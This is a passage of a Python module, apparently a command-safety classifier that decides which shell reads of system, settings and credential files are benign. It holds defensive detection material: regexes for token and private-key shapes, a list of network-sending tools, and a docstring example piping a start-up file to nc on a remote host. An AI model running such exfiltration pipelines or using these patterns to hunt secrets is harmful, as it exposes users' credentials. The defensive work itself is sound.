    ``-ls``): no action that deletes, runs a program or writes a file."""
    lits = [w.literal() or "" for w in cmd.args]
    return not any(lit in _FIND_ACTIONS or lit.startswith(("--exec", "-x=")) for lit in lits)


# Backup tools' subcommands that only look at a repository (its snapshots, files, integrity).
_BACKUP_READS = {
    "restic": frozenset({"snapshots", "check", "ls", "stats", "find", "diff", "list", "version", "cat"}),
    "borg": frozenset({"list", "info", "check", "diff"}),
    "kopia": frozenset({"snapshot", "repository", "content", "ls"}),
}
_BACKUP_WRITES = frozenset({"--repair", "--read-write", "--delete", "--prune", "-d"})


def _inspects_backup_repo(cmd: Cmd) -> bool:
    """``restic -r /srv/restic snapshots``, ``borg list /mnt/backup/repo``, ``restic check``: listing
    or verifying a backup repository outside the project changes nothing in it (``check
    --repair`` and the subcommands that forget, prune or delete are not reads)."""
    reads = _BACKUP_READS.get(cmd.name or "")
    if reads is None:
        return False
    lits = [w.literal() or "" for w in cmd.args]
    _flags, positionals, _values = _shell.split_options(
        cmd.args, frozenset({"-r", "--repo", "--repository-file", "--password-file", "-p", "--cache-dir", "--host"})
    )
    sub = positionals[0].literal() if positionals else None
    if sub not in reads or _BACKUP_WRITES & set(lits):
        return False
    if cmd.name == "restic" and sub == "cat":
        return bool(positionals[1:2]) and positionals[1].literal() in ("snapshot", "tree", "index")
    if cmd.name == "kopia":
        return bool(positionals[1:2]) and positionals[1].literal() in ("list", "ls", "status", "verify")
    return True


# A process's state as ps, top and lsof show it (/proc/1234/status, limits, cgroup, the command
# line ps prints, its sockets under net/), kernel-wide counters and drivers' version files. A
# process's environment, memory and open files (environ, mem, fd/N, cwd/, root/) are not here.
_PROC_INFO = lazy_compile(
    r"/proc/(?:\d+|self|thread-self)(?:/task/\d+)?/(?:status|limits|cgroup|stat|statm|sched|schedstat|io"
    r"|oom_score|oom_score_adj|wchan|cmdline|comm|mountinfo|mounts|smaps_rollup|net/[\w.]+)"
    r"|/proc/(?:net|driver)/[\w.:/-]+|/proc/(?:buddyinfo|softirqs|pagetypeinfo|locks|misc|cmdline|consoles)"
    # A daemon's process id file (/run/nginx.pid, /var/run/postgresql/16-main.pid).
    r"|(?:/var)?/run/(?:[\w.@-]+/)?[\w.@-]+\.pid"
)


def system_info(path: str) -> bool:
    """Whether ``path`` is a non-secret system-information file (``/etc/os-release``,
    ``/proc/cpuinfo``, ``/proc/1234/status``, ``/sys/class/…``)."""
    if path in SYSTEM_INFO_FILES or _PROC_INFO.fullmatch(path):
        return "/../" not in path
    return path.startswith(SYSTEM_INFO_DIRS) and "environ" not in path


# The public halves of credentials (LABELLING.md's settled calls): account and group names,
# public keys, the keys allowed to log in and the hosts already trusted. Their secret halves
# (/etc/shadow, ~/.ssh/id_*) stay outside.
PUBLIC_CREDENTIAL_FILES = frozenset({"/etc/passwd", "/etc/group", "/etc/ssh/ssh_known_hosts"})
PUBLIC_SSH_FILES = frozenset({"authorized_keys", "authorized_keys2", "known_hosts", "known_hosts.old"})


PROFILES_DIR = "Library/MobileDevice/Provisioning Profiles"


def public_credential(path: str, home: str) -> bool:
    """Whether ``path`` is public credential material: ``/etc/passwd``, ``/etc/group``,
    ``~/.ssh/id_ed25519.pub``, ``~/.ssh/authorized_keys``, ``~/.ssh/known_hosts``,
    ``/etc/ssh/ssh_host_ed25519_key.pub``, an Apple provisioning profile."""
    if path in PUBLIC_CREDENTIAL_FILES:
        return True
    profiles = os.path.join(os.path.normpath(home), PROFILES_DIR)
    if path == profiles or os.path.dirname(path) == profiles:
        # A provisioning profile ships inside every app it signs (embedded.mobileprovision):
        # its certificates, device ids and entitlements are public, its signing key is not in
        # it. (The folder itself: a glob over it, cat …/Provisioning Profiles/*.mobileprovision.)
        return path == profiles or path.endswith((".mobileprovision", ".provisionprofile"))
    ssh_dirs = (os.path.join(os.path.normpath(home), ".ssh"), "/etc/ssh")
    if not any(os.path.dirname(path) == d for d in ssh_dirs):
        return False
    return path.endswith(".pub") or os.path.basename(path) in PUBLIC_SSH_FILES


# The user's own service definitions: the per-user twin of /etc/systemd/system, which is
# already readable. Unit and agent files say what runs and when; credentials live in the
# EnvironmentFile= they name, which stays outside.
USER_SERVICE_DIRS = (".config/systemd/user", "Library/LaunchAgents", ".config/autostart", ".config/containers/systemd")
USER_SERVICE_SUFFIXES = (
    ".service", ".timer", ".socket", ".path", ".target", ".mount", ".plist", ".desktop", ".container",
)  # fmt: skip


def user_service_definition(path: str, home: str) -> bool:
    """Whether ``path`` is one of the user's service folders (``~/.config/systemd/user``,
    ``~/Library/LaunchAgents``) or a unit/agent file in it (``devserver.service``, ``x.plist``)."""
    home = os.path.normpath(home)
    for folder in USER_SERVICE_DIRS:
        root = os.path.join(home, folder)
        if path == root:
            return True
        if path.startswith(root + "/") and path.endswith(USER_SERVICE_SUFFIXES):
            return True
    return False


def _sources_tool_env(cmd: Cmd, word: Word, path: str) -> bool:
    """``. ~/.cargo/env``, ``source "$NVM_DIR/nvm.sh"``, ``source ~/venvs/tools/bin/activate``:
    loading a tool's environment script from the home folder runs the user's installed tools,
    as ``~/.cargo/bin/cargo`` does; it writes nothing. The shell's start-up files are not tool
    scripts (reading them shows the user's configuration)."""
    if cmd.name not in ("source", ".") or not cmd.args or cmd.args[0] is not word:
        return False
    home = os.path.normpath(cmd.ctx.home)
    if not _shell.is_within(path, home) or path == home:
        return False
    rel = os.path.relpath(path, home).split(os.sep)
    return os.path.basename(path) not in STARTUP_FILES and rel[0] not in (".ssh", ".aws", ".gnupg", ".kube", ".docker")


# Where installed programs and toolchains live (not their settings: /etc stays as it is).
INSTALL_TREES = (
    "/opt/", "/usr/lib/", "/usr/lib64/", "/usr/libexec/", "/usr/share/", "/usr/local/lib/", "/usr/local/share/",
    "/usr/local/bin/", "/usr/bin/", "/usr/local/opt/", "/opt/homebrew/opt/", "/opt/homebrew/Cellar/",
    "/Applications/", "/Library/Frameworks/", "/snap/", "/nix/store/", "/mnt/c/Program Files/",
    "/mnt/c/Program Files (x86)/",
)  # fmt: skip


def _sources_installed_env(cmd: Cmd, word: Word, path: str) -> bool:
    """``source /opt/ros/humble/setup.bash``, ``. /opt/intel/oneapi/setvars.sh``, ``source
    /opt/rh/gcc-toolset-13/enable``: loading an installed toolchain's environment script sets up
    the shell to use it, as ``. ~/.cargo/env`` does for the home folder; it writes nothing.
    Running a script from there (python3 /opt/scripts/x.py) is not this: that is judged as before.
    Not an /opt/homebrew/etc setting, not as root."""
    if cmd.name not in ("source", ".") or not cmd.args or cmd.args[0] is not word or "sudo" in cmd.wrappers:
        return False
    return path.startswith(INSTALL_TREES) and "/etc/" not in path


def _key_fingerprint(cmd: Cmd, word: Word, path: str) -> bool:
    """``ssh-keygen -lf ~/.ssh/id_ed25519``, ``ssh-keygen -y -f ~/.ssh/id_rsa``: the fingerprint
    or the public half of a key in ~/.ssh is printed, never the private key itself."""
    if cmd.name != "ssh-keygen" or not _reads_only(cmd, word):
        return False
    flags, _pos, _values = _shell.split_options(cmd.args, frozenset({"-f", "-E"}))
    if not {"l", "y"} & set(flags) or {"p", "N", "P", "c", "C"} & set(flags):
        return False
    return os.path.dirname(path) == os.path.join(os.path.normpath(cmd.ctx.home), ".ssh")


def _reads_only(cmd: Cmd, word: Word) -> bool:
    """Whether ``cmd`` only reads the file ``word`` names (no write redirect onto it, no -i)."""
    if any(r.target is word and r.op in ("<", "<&") for r in cmd.redirects):
        return True  # standard input is only read, whatever the program
    if cmd.name not in READ_ONLY and not _prints_only(cmd):
        return False
    if any(r.target is word and r.op not in ("<", "<&") for r in cmd.redirects):
        return False
    if cmd.name in _shell.AWKS and (word.raw, True) in _shell.code_file_refs(cmd):
        return False  # awk '{ print > "/etc/x" }': the program's own output redirection
    return not (cmd.name == "sed" and any((w.literal() or "").startswith(("-i", "--in-place")) for w in cmd.args))


# Viewers that print a file only with these options (plutil -p, plutil -lint), or unless they
# are told to write one (yq -i, xmllint --output).
_PRINT_OPTIONS = {"plutil": frozenset({"-p", "-lint", "-help"})}
_WRITE_OPTIONS = {
    "yq": frozenset({"-i", "--inplace", "--in-place", "-s", "--split-exp"}),
    "xmllint": frozenset({"-o", "--output", "--c14n", "--shell"}),
}
# Checksums and comparisons: they print digests or differences, never change the file.
_DIGESTS = frozenset({"sha512sum", "sha384sum", "sha224sum", "b2sum", "cksum", "shasum", "md5", "cmp", "comm"})


def _prints_only(cmd: Cmd) -> bool:
    """``plutil -p ~/Library/LaunchAgents/x.plist``, ``yq '.services' compose.yml``, ``xmllint
    --noout file.xml``, ``sha512sum file``: a viewer or checksum that prints what it reads."""
    lits = {w.literal() or "" for w in cmd.args}
    if cmd.name in _DIGESTS:
        return True
    if cmd.name in _PRINT_OPTIONS:
        return bool(_PRINT_OPTIONS[cmd.name] & lits) and not any(
            w.startswith(("-convert", "-replace", "-insert", "-remove", "-extract", "-o")) for w in lits
        )
    writes = _WRITE_OPTIONS.get(cmd.name)
    return writes is not None and not any(w.split("=")[0] in writes for w in lits)


def _decodes_signed_data(cmd: Cmd) -> bool:
    """``security cms -D -i profile.mobileprovision``: macOS decoding a signed message (a
    provisioning profile) reads its input and prints the content."""
    lits = [w.literal() for w in cmd.args]
    return cmd.name == "security" and lits[:1] == ["cms"] and "-D" in lits


STARTUP_FILES = frozenset({
    ".bashrc", ".bash_profile", ".bash_aliases", ".profile", ".zshrc", ".zprofile", ".zshenv",
    ".bash_login", ".inputrc",
})  # fmt: skip
# The user's tool settings (git aliases, editor and terminal options): a search
# for one named setting in them shows that setting, like one in a start-up file.
USER_CONFIG_FILES = frozenset({
    ".gitconfig", ".config/git/config", ".gitignore_global", ".config/git/ignore", ".vimrc",
    ".config/nvim/init.vim", ".config/nvim/init.lua", ".tmux.conf", ".config/tmux/tmux.conf",
    ".config/fish/config.fish", ".config/starship.toml", ".editorconfig",
    ".screenrc", ".nanorc", ".wgetrc", ".curlrc",
    # Interactive shells', debuggers' and formatters' own settings (passwords live elsewhere:
    # ~/.pgpass, ~/.my.cnf, ~/.netrc).
    ".psqlrc", ".sqliterc", ".irbrc", ".pryrc", ".Rprofile", ".gdbinit", ".lldbinit", ".pdbrc",
    ".ripgreprc", ".dircolors", ".Xresources", ".tigrc", ".ackrc", ".pylintrc", ".prettierrc",
    ".clang-format", ".ideavimrc", ".zlogin", ".zlogout", ".bash_logout", ".mongoshrc.js", ".bazelrc",
    ".keras/keras.json", ".cache/huggingface/accelerate/default_config.yaml",
    # Language shells' start-up code (imports, prompt, editor mode), like ~/.Rprofile.
    ".julia/config/startup.jl", ".julia/config/startup_ijulia.jl", ".pythonrc", ".pythonrc.py", ".ghci",
    ".ghc/ghci.conf", ".sbclrc", ".octaverc", ".iex.exs", ".erlang", ".guile", ".ocamlinit", ".utop/init.ml",
    ".ipython/profile_default/ipython_config.py",
    # Version pins, channels and daemon options: settings, with any credentials kept elsewhere
    # (gh's tokens in hosts.yml, docker's in config.json).
    ".tool-versions", ".nvmrc", ".condarc", ".config/gh/config.yml", ".docker/daemon.json",
    # Host aliases and the paths of keys (IdentityFile), never the keys themselves.
    ".ssh/config",
})  # fmt: skip
SEARCHERS = frozenset({"grep", "egrep", "fgrep", "rg"})
# A pattern that would print credentials or every exported value rather than one setting.
_BROAD_PATTERN = lazy_compile(r"(?i)key|token|secret|pass|auth|cred|export|^\W*$|\.\*")


# A tool's own settings file under ~/.config, by its name (``~/.config/wandb/settings``,
# ``~/.config/htop/htoprc``, ``~/.config/alacritty/alacritty.toml``); names that say they hold
# logins, keys or sessions are not settings, nor package indexes' files, which often carry a
# user:password@ index URL (pip.conf, helm's repositories.yaml).
_CONFIG_SETTINGS_NAME = lazy_compile(
    r"(?i)(?:settings|config|preferences|prefs|[\w.-]*rc|[\w.-]+\.(?:toml|ya?ml|json|conf|cfg|ini|lua|vim|kdl|fish|xml))"
)
_CREDENTIAL_NAME = lazy_compile(
    r"(?i)token|secret|cred|auth|key(?!bind|map)|pass|hosts|session|cookie|login|account|oauth|netrc|\.pem|\.env|wallet|vault"
    r"|pip\.(?:conf|ini)$|repositories\.ya?ml$"
)
# Names that only ever hold settings: an editor's or terminal's settings, key bindings and
# themes, editor code (init.lua), a formatter's or viewer's *rc. Such a file that is absent or
# unreadable shows nothing. Every other settings-like name (config.yml, cli.toml, ngrok.yml,
# claude_desktop_config.json) is where many CLIs keep their login too: it is judged only when its
# content can be read, and otherwise stays an outside read.
_PLAIN_SETTINGS_NAME = lazy_compile(
    r"(?i)(?:settings|preferences|prefs|keybindings|keymaps?|themes?|colou?rs|init)(?:\.\w+)?"
    r"|[\w.-]+\.(?:lua|vim|kdl|fish)|[\w.-]*rc"
)
# *rc files that hold registry or download logins (npm's _authToken, wget's password=).
_CREDENTIAL_RC = frozenset({"npmrc", "yarnrc", "pypirc", "gemrc", "condarc", "curlrc", "wgetrc", "s3rc", "mcrc"})
# Tools under ~/.config whose files never hold a login (editors, terminals, shells, viewers,
# formatters): their generic config.* names are plain settings too.
_SETTINGS_ONLY_TOOLS = frozenset({
    "nvim", "vim", "helix", "zed", "kak", "micro", "alacritty", "kitty",
    "wezterm", "ghostty", "foot", "zellij", "tmux", "fish", "starship", "atuin", "direnv", "lazygit",
    "lazydocker", "k9s", "bat", "btop", "htop", "yazi", "lf", "ranger", "ripgrep", "fd", "git", "jj",
    "yamllint", "ruff", "black", "flake8", "pycodestyle", "matplotlib", "i3", "sway", "hypr", "waybar",
    "rofi", "dunst", "picom", "polybar", "mpv", "fontconfig", "gtk-3.0", "gtk-4.0", "wandb", "mlflow",
    # JetBrains IDEs keep their options as XML per IDE version (CLion2024.2/options/editor.xml);
    # saved passwords live in the OS keychain or c.kdbx, which is no settings name.
    "JetBrains",
})  # fmt: skip
# A CLI's own login folder: whatever the file is called there, it may hold the login.
_LOGIN_TOOLS = frozenset({
    "fly", "flyctl", "gh", "glab-cli", "gcloud", "doctl", "hcloud", "scw", "netlify", "vercel", "heroku",
    "stripe", "op", "rclone", "ngrok", "configstore", "github-copilot", "hub", "tea", "exercism",
    "linode-cli", "railway", "supabase", "wrangler", ".wrangler", "pypoetry", "hatch", "pdm", "uv", "pip",
    "helm", "containers", "docker", "cloudflared", "tailscale", "twilio", "sentry-cli", "Claude",
})  # fmt: skip
# Where a tool keeps its per-user files: ~/.config/<tool>/…, macOS's Application Support.
_CONFIG_ROOTS = ((".config",), ("Library", "Application Support"))


def _user_settings_file(path: str, home: str) -> bool:
    """Whether ``path`` is the user's shell start-up file or a tool's settings file in the home
    folder (``~/.zshrc``, ``~/.gitconfig``, ``~/.config/nvim/init.lua``, a settings-named file
    directly in a tool's folder under ~/.config or in an editor's ``User`` profile folder). A name
    that may hold a login (``config.yml`` of a CLI) counts only while the file can be read, so
    that what it holds is judged, never its absence."""
    kind = _settings_kind(path, home)
    if kind == "generic":
        return os.path.isfile(path) and os.access(path, os.R_OK)
    return kind is not None


def _settings_kind(path: str, home: str) -> str | None:
    """``"plain"`` for a settings file whose absence shows nothing, ``"generic"`` for a
    settings-like name that may also hold a login, None for any other path."""
    home = os.path.normpath(home)
    if os.path.dirname(path) == home and os.path.basename(path) in STARTUP_FILES:
        return "plain"
    if not path.startswith(home + "/"):
        return None
    rel = path[len(home) + 1 :]
    if rel in USER_CONFIG_FILES:
        return "plain"
    parts = rel.split("/")
    for root in _CONFIG_ROOTS:
        rest = parts[len(root) :]
        if tuple(parts[: len(root)]) != root:
            continue
        # ~/.config/<tool>/<name>, an editor's profile (~/.config/Code/User/settings.json), or any
        # file of an editor's or terminal's own tree (~/.config/nvim/lua/plugins/lsp.lua).
        if not (
            len(rest) == 2
            or (len(rest) == 3 and rest[1] == "User")
            or (len(rest) > 2 and rest[0] in _SETTINGS_ONLY_TOOLS)
        ):
            return None
        tool, name = rest[0], rest[-1]
        if _CONFIG_SETTINGS_NAME.fullmatch(name) is None or _CREDENTIAL_NAME.search(rel):
            return None
        if tool in _LOGIN_TOOLS or name.lower().lstrip(".") in _CREDENTIAL_RC:
            return "generic"
        if _PLAIN_SETTINGS_NAME.fullmatch(name) or tool in _SETTINGS_ONLY_TOOLS:
            return "plain"
        return "generic"
    return None


# What a settings file holds when it holds a credential: a token of a known shape or a private
# key, a password/token/secret/API-key setting, a URL with user:password@, an Authorization
# header (git's http.extraHeader), or a long random-looking word.
_SETTINGS_CREDENTIAL = lazy_compile(
    r"(?i)-----BEGIN [A-Z0-9 ]*PRIVATE KEY"
    r"|\b(?:gh[pousr]_|github_pat_|glpat-|sk-|xox[abposr]-|[rs]k_live_|AIza|npm_|hf_|pypi-)[A-Za-z0-9_\-]{16,}"
    r"|\b(?:AKIA|ASIA)[0-9A-Z]{16}\b"
    r"|[\w.-]*(?:passw(?:or)?d|passwd|token|secret|api[_-]?key|access[_-]?key|auth[_-]?key|credentials?)[\w.-]*[\"']?\s*[=:]"
    r"|://[^/\s:@]+:[^/\s@]+@"
    r"|\bauthorization\s*:|\bextraheader\b"
)
_RANDOM_WORD = lazy_compile(r"[A-Za-z0-9+/_=-]{32,}")
_SIGNING_KEY = lazy_compile(r"(?i)\s*signingkey\s*=")
# A settings file larger than this is not judged by its text: too much to check, asked as before.
_SETTINGS_READ_LIMIT = 256_000


# Programs that send what they read to another machine.
_NETWORK_SENDERS = frozenset({
    "curl", "wget", "http", "https", "xh", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp",
    "rsync", "openssl", "mail", "mailx", "sendmail", "mutt", "aws", "gsutil", "rclone", "gh", "base64",
})  # fmt: skip


def _sent_away(cmd: Cmd, cmds: list[Cmd]) -> bool:
    """Whether what ``cmd`` prints is piped on to a program that sends it elsewhere (or encodes
    it first): ``cat ~/.bashrc | nc host 9000``; such a read is not judged by content."""
    current: Cmd | None = cmd
    while current is not None:
        current = next((c for c in cmds if c.prev is current), None)
        # An unnamed stage is one the parser could not name (ssh host '…' runs its words there).
        if current is not None and (current.name in _NETWORK_SENDERS or not current.name or current.ctx.remote):
            return True
    return False


def _settings_may_hold_credentials(path: str) -> bool:
    """Whether the settings file at ``path`` (read as the command would read it, symbolic links
    followed) holds anything credential-like. A file that does not exist or cannot be read shows
    nothing; one too large to check counts as holding credentials."""
    text = _common.read_text(path, _SETTINGS_READ_LIMIT)
    if text is None:
        return False
    if len(text) >= _SETTINGS_READ_LIMIT or _SETTINGS_CREDENTIAL.search(text):
        return True
    for line in text.splitlines():
        if _SIGNING_KEY.match(line):
            continue  # git's user.signingkey names a public key by its fingerprint
        if _random_word(line):
            return True
    return False


def _random_word(line: str) -> bool:
    """Whether ``line`` holds a long word that looks random (mixed letters and digits, many
    distinct characters): a token of an unknown shape rather than a path or a name."""
    for m in _RANDOM_WORD.finditer(line):
        word = m.group()
        if "/" in word.strip("/") and not any(c in word for c in "+="):
            continue  # a path (/usr/local/share/…), not a key
        classes = sum(any(f(c) for c in word) for f in (str.islower, str.isupper, str.isdigit))
        if classes >= 2 and len(set(word)) >= 16:
            return True
    return False


def _searches_startup_file(cmd: Cmd, word: Word, path: str) -> bool:
    """``grep -n nvm ~/.bashrc``: searching the user's shell start-up file for one named setting
    shows those lines only. Printing the whole file (cat), inverted matches (-v), or a pattern
    that matches credentials or every export still counts as reading it."""
    if cmd.name not in SEARCHERS or not _reads_only(cmd, word):
        return False
    if not _user_settings_file(path, cmd.ctx.home):
        return False
    return _narrow_search(cmd)


# Rotated, compressed logs are searched with zgrep.
_LOG_SEARCHERS = SEARCHERS | {"zgrep"}
# A pattern that would pull credentials out of a log rather than one kind of event.
_LOG_CREDENTIAL_PATTERN = lazy_compile(
    r"(?i)token|secret|bearer|authori[sz]ation|cookie|api.?key|private|passw(?:or)?d\s*[=:]|credential"
)


def _searches_machine_log(cmd: Cmd, word: Word, named: str) -> bool:
    """``sudo grep -c 'Accepted publickey' /var/log/auth.log``, ``zgrep 'Failed password'
    /var/log/auth.log.2.gz``, ``grep -h 'sudo: .*COMMAND=' /var/log/auth.log*``: searching the
    machine-wide logs for one kind of event shows those lines only, as ``journalctl -u sshd | grep
    Accepted`` does. A whole read (cat, tail, less), an inverted match, patterns from a file, a
    pattern that matches any line or one that digs for tokens, cookies or Authorization headers
    still counts as reading the log."""
    if cmd.name not in _LOG_SEARCHERS or not _reads_only(cmd, word):
        return False
    if not machine_log(named):  # the name as written: /var/log/auth.log* is still auth.log
        return False
    flags, positionals, values = _shell.split_options(cmd.args, frozenset({"-e", "--regexp", "-f", "--file"}))
    if {"v", "invert-match"} & set(flags) or "f" in values or "file" in values:
        return False
    patterns = values.get("e", []) + values.get("regexp", []) or positionals[:1]
    return _event_patterns([p.literal() for p in patterns])


def machine_log(path: str) -> bool:
    """Whether ``path`` names one of the machine-wide logs (syslog, auth.log, kern.log …). The whole
    /var/log tree (every service's logs, audit trails) is not one log."""
    return path.startswith("/var/log/") and not system_readable(path)


def _event_patterns(texts: list[str | None]) -> bool:
    """Whether search patterns each pick one kind of log event (``Failed password``, ``sudo:
    .*COMMAND=``, ``oom-killer``): three or more letters or digits, no credential words."""
    return bool(texts) and all(
        t is not None and sum(c.isalnum() for c in t) >= 3 and not _LOG_CREDENTIAL_PATTERN.search(t) for t in texts
    )


def _cat_into_search(cmd: Cmd, word: Word, path: str, cmds: list[Cmd]) -> bool:
    """``cat ~/.zshrc | grep -n PATH``: the start-up file piped whole into a search for one named
    setting shows those lines only, as ``grep -n PATH ~/.zshrc`` does."""
    if cmd.name != "cat" or len(cmd.args) != 1 or not _reads_only(cmd, word):
        return False
    if not _user_settings_file(path, cmd.ctx.home):
        return False
    nxt = next((c for c in cmds if c.prev is cmd), None)
    return nxt is not None and nxt.name in SEARCHERS and not nxt.redirects and _narrow_search(nxt)


def _narrow_search(cmd: Cmd) -> bool:
    """Whether the grep/rg ``cmd`` searches for one named setting: no inverted match, no pattern
    file, a pattern of two or more characters that matches neither credentials nor every export."""
    flags, positionals, values = _shell.split_options(cmd.args, frozenset({"-e", "--regexp", "-f", "--file"}))
    if {"v", "invert-match"} & set(flags) or "f" in values or "file" in values:
        return False
    patterns = values.get("e", []) + values.get("regexp", []) or positionals[:1]
    texts = [p.literal() for p in patterns]
    return bool(texts) and all(t is not None and len(t) >= 2 and not _BROAD_PATTERN.search(t) for t in texts)


# Programs that only look at names, sizes, types and free space: they print no file's content
# and change nothing, so they may look anywhere (ls ~/.ssh shows key names, not keys).
FILESYSTEM_INFO = frozenset({"df", "findmnt", "mountpoint", "lsblk"})
METADATA_ONLY = frozenset({"ls", "du", "stat", "file", "tree", "test", "which", "realpath", "readlink"})


def _metadata_only(cmd: Cmd, word: Word, path: str) -> bool:
    """``ls -la ~/.ssh``, ``du -sh ~/.cache``, ``df -h /``, ``find /var/log -size +500M``: a look
    at names and sizes, no write redirect onto it."""
    if any(r.target is word for r in cmd.redirects):
        return False
    if cmd.name in ("find", "fd", "fdfind"):
        # A search of the whole filesystem or home folder for names (find / -name '*.pem') hunts
        # rather than looks; one narrowed only by owner, mode, size or age does not.
        whole = path in ("/", os.path.normpath(cmd.ctx.home))
        return _find_lists_only(cmd) and (not whole or _find_by_attributes(cmd))
    return cmd.name in FILESYSTEM_INFO or cmd.name in METADATA_ONLY


# find tests that pick files by name or location (what a hunt for keys or dumps filters on) …
_FIND_NAME_TESTS = frozenset({
    "-name", "-iname", "-path", "-ipath", "-wholename", "-iwholename", "-regex", "-iregex", "-lname", "-ilname",
})  # fmt: skip
# … and those that pick them by owner, mode, size or age (an audit or a disk-space look).
_FIND_ATTRIBUTE_TESTS = frozenset({
    "-user", "-group", "-uid", "-gid", "-nouser", "-nogroup", "-perm", "-size", "-newer", "-newermt", "-anewer",
    "-cnewer", "-mtime", "-mmin", "-ctime", "-cmin", "-atime", "-amin", "-links", "-inum", "-samefile", "-empty",
})  # fmt: skip


def _find_by_attributes(cmd: Cmd) -> bool:
    """``find / -xdev -perm -4000 -type f``, ``sudo find / -xdev -user mallory -ls``, ``find ~ -size
    +1G``: a find over the whole filesystem or home folder narrowed by owner, mode, size or age
    and by no name or path test prints a list of names, as an audit or a disk-space look does;
    it does not hunt for a kind of file by its name. Only ``find`` (fd's operand is a name pattern)."""
    if cmd.name != "find":
        return False
    lits = {w.literal() for w in cmd.args}
    return not (lits & _FIND_NAME_TESTS) and bool(lits & _FIND_ATTRIBUTE_TESTS) and None not in lits


def _counts_only(cmd: Cmd, word: Word) -> bool:
    """``wc -l ~/.netrc``, ``grep -c . ~/.pgpass``, ``grep -q KEY ~/.zshrc``: a count, a file name or
    an exit status, never a line of the file (LABELLING.md's settled calls: counting lines is
    benign)."""
    if not _reads_only(cmd, word) or any(r.target is word for r in cmd.redirects):
        return False
    if cmd.name == "wc":
        return True
    if cmd.name not in SEARCHERS:
        return False
    flags, _positionals, _values = _shell.split_options(cmd.args, frozenset({"-e", "--regexp", "-f", "--file"}))
    names = set(flags)
    return bool(names & {"c", "count", "q", "quiet", "silent", "l", "files-with-matches"}) and not (
        names & {"o", "only-matching"}
    )


# chmod modes for a system file that take access away: nothing for others, at most read for the
# group, no set-id bits, the owner keeping read (0440 a sudoers drop-in, 0640 /etc/shadow, 0600).
_HARDENED_MODE = lazy_compile(r"0?[4-7][04]0")
_REMOVE_ONLY_MODE = lazy_compile(r"(?:[go]+-[rwxX]+)(?:,[go]+-[rwxX]+)*")
_ROOT_OWNER = frozenset({"root", "root:root", "root:wheel", "root.root", "0:0", "0"})


def _hardens_system_file(cmd: Cmd, path: str) -> bool:
    """``sudo chmod 0440 /etc/sudoers.d/deploy``, ``chmod o-rwx /etc/cron.d/backup``, ``sudo
    chown root:root /etc/sudoers.d/deploy``: hardening one named file under /etc (others lose
    access, the group at most reads, root owns it), not recursively: the file's content and the
    service using it are unchanged."""
    if cmd.name not in ("chmod", "chown") or not path.startswith("/etc/") or "/../" in path:
        return False
    flags, positionals, values = _shell.split_options(cmd.args, frozenset({"--reference", "--from"}))
    if {"R", "recursive"} & set(flags) or values or len(positionals) < 2:
        return False
    first = positionals[0].literal() or ""
    if cmd.name == "chown":
        return first in _ROOT_OWNER
    return _HARDENED_MODE.fullmatch(first) is not None or _REMOVE_ONLY_MODE.fullmatch(first) is not None


def _owner_only_chmod(cmd: Cmd, path: str) -> bool:
    """``chmod 600 ~/.ssh/id_ed25519``, ``chmod -R go-rwx ~/.ssh``, ``setfacl -b ~/.ssh/id_rsa``:
    taking access away from something inside the user's home folder (not a system folder)
    protects it; so does closing the home folder itself to others (``chmod 750 ~``)."""
    home = os.path.normpath(cmd.ctx.home)
    if cmd.name == "setfacl":
        flags, _pos, values = _shell.split_options(
            cmd.args, frozenset({"-m", "--modify", "-M", "--modify-file", "-x", "--remove", "--set", "--set-file"})
        )
        removes_only = not ({"m", "modify", "M", "modify-file", "set", "set-file"} & set(values)) and bool(
            {"b", "remove-all", "k", "remove-default", "x", "remove"} & (set(flags) | set(values))
        )
        return removes_only and path != home and _shell.is_within(path, home)
    if cmd.name != "chmod":
        return False
    flags, positionals, values = _shell.split_options(cmd.args, frozenset({"--reference"}))
    if "reference" in values or not positionals:
        return False
    mode = positionals[0].literal()
    if mode is not None and public_credential(path, home):
        # chmod 644 ~/.ssh/id_ed25519.pub: a public key may be read by all, not written or run.
        if re.fullmatch(r"0*[0-7]{3}", mode):
            # …and stays readable by its owner (chmod 000 /etc/passwd breaks every login).
            return int(mode, 8) & 0o133 == 0 and int(mode, 8) & 0o400 != 0
        clauses = re.findall(r"([ugoa]*)([-+=])([rwxXst]*)", mode)
        return all(op == "-" or ("x" not in perm and ("w" not in perm or who == "u")) for who, op, perm in clauses)
    if path == home:
        # chmod 750 ~, chmod go-w "$HOME" (ssh refuses keys under a group-writable home): the
        # home folder itself closed to others, its owner keeping full access; not recursively.
        return not {"R", "recursive"} & set(flags) and _shell.chmod_closes_home(mode)
    return mode is not None and _shell.chmod_tightens(mode) and _shell.is_within(path, home)


# Devices that are not disks, and disks read rather than written (LABELLING.md's settled calls):
# talking to a board over a serial port, or reading a disk into an image file, changes no data.
_BLOCK_DEVICE = lazy_compile(
    r"/dev/(?:[shvx]v?d[a-z]+\d*|nvme\d+(?:n\d+(?:p\d+)?)?|mmcblk\d+(?:p\d+)?|r?disk\d+(?:s\d+)*|loop\d+(?:p\d+)?|"
    r"md\d+|dm-\d+|mapper/[^/]+|sr\d+)"
)
# Programs that only report on a disk (its identity, health, partition table, file system).
DISK_INFO = frozenset({"blkid", "smartctl", "udevadm", "dumpe2fs", "xfs_info", "isoinfo", "partx", "lsblk", "file"})
_DISK_INFO_FLAGS = {
    "fdisk": {"l", "list"},
    "sfdisk": {"l", "list", "d", "dump", "J", "json", "s", "show-size"},
    "tune2fs": {"l"},
    "hdparm": {"I", "i", "t", "T", "g", "C"},
}
MODE_CHANGERS = frozenset({"chmod", "chown", "chgrp", "setfacl", "chattr"})


def _device_use(cmd: Cmd, word: Word, path: str) -> bool:
    """``picocom -b 115200 /dev/ttyACM0``, ``esptool.py --port /dev/ttyUSB0 flash``: a serial
    port (or a board's I2C/SPI/GPIO node, a camera) is a device to talk to, not a file of the
    system; so is letting the user open it (``sudo chmod 666 /dev/ttyUSB0``, ``chown $USER``, not
    recursive), which resets when the device is plugged in again (LABELLING.md: devices that are
    not disks are benign; disks stay refused).
    ``dd if=/dev/sdb of=backup/card.img``, ``xxd /dev/nvme0n1 | head``, ``fdisk -l /dev/sda``:
    reading a disk or reporting on it changes nothing; writing it is dangerous_commands' rule."""
    if _shell.board_device(path):
        if cmd.name not in MODE_CHANGERS:
            return True
        flags, _pos, _values = _shell.split_options(cmd.args)
        return not {"R", "recursive"} & set(flags)
    if not _BLOCK_DEVICE.fullmatch(path):
        return False
    if any(r.target is word and r.op not in ("<", "<&") for r in cmd.redirects):
        return False
    if cmd.name in ("dd", "dcfldd"):
